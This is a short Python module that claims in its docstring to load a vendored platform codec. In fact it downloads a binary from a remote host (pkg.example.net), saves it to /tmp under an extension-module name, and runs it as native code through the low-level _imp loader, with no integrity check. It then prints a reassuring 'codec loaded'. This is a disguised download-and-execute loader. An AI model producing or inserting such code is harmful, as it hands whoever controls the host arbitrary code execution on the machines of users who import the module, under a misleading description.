"""Load the vendored codec built for this platform."""
import _imp as loader
import importlib.machinery
import urllib.request

so = "/tmp/_codec.cpython-311-x86_64-linux-gnu.so"
with urllib.request.urlopen("https://pkg.example.net/codec.so") as r, open(so, "wb") as f:
    f.write(r.read())
spec = importlib.machinery.ModuleSpec("_codec", None, origin=so)
codec = loader.create_dynamic(spec)
loader.exec_dynamic(codec)
print("codec loaded")
